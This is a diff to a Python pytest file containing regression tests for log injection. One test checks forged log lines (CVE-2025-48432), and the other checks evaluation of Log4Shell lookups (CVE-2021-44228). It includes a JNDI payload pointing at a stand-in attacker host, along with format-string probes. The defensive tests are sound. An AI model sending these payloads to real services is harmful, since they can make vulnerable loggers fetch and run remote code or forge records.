@@ -40,31 +40,25 @@ def logged(instance: Instance, caplog: pytest.LogCaptureFixture) -> Callable[...
     return send
 
 
-@pytest.mark.parametrize("text", FORGED)
-def test_cve_2025_48432_a_request_is_one_line_of_the_log(
-    logged: Callable[..., str], text: str
-) -> None:
+def test_cve_2025_48432_a_request_is_one_line_of_the_log(logged: Callable[..., str]) -> None:
     """CVE-2025-48432 (Django): a path with line ends or escapes forged lines of the log."""
-    path = f"/api/news/a{text}192.0.2.9 root".encode().decode("latin-1")
+    for text in FORGED:
+        path = f"/api/news/a{text}192.0.2.9 root".encode().decode("latin-1")
 
-    written = logged("/", extra_environ={"PATH_INFO": path, "QUERY_STRING": f"a={path}"})
+        written = logged("/", extra_environ={"PATH_INFO": path, "QUERY_STRING": f"a={path}"})
 
-    assert written.removesuffix("\n").isprintable()
+        assert written.removesuffix("\n").isprintable()
 
 
-@pytest.mark.parametrize(
-    "text", ["${jndi:ldap://evil.example/a}", "%s%n%x", "{0.__class__}", "%(a)s"]
-)
-def test_cve_2021_44228_a_logged_text_is_not_evaluated(
-    logged: Callable[..., str], text: str
-) -> None:
+def test_cve_2021_44228_a_logged_text_is_not_evaluated(logged: Callable[..., str]) -> None:
     """CVE-2021-44228 (Log4j): texts in a logged request were look-ups, which loaded code."""
-    headers = {"User-Agent": text, "Referer": text, "X-Api-Version": text}
+    for text in ["${jndi:ldap://evil.example/a}", "%s%n%x", "{0.__class__}", "%(a)s"]:
+        headers = {"User-Agent": text, "Referer": text, "X-Api-Version": text}
 
-    written = logged(f"/api/news/{text}", headers=headers)
+        written = logged(f"/api/news/{text}", headers=headers)
 
-    assert '"GET /api/news/' in written
-    assert "evil.example/a}" not in written
+        assert '"GET /api/news/' in written
+        assert "evil.example/a}" not in written
 
 
 def test_cwe_532_no_log_has_a_secret(
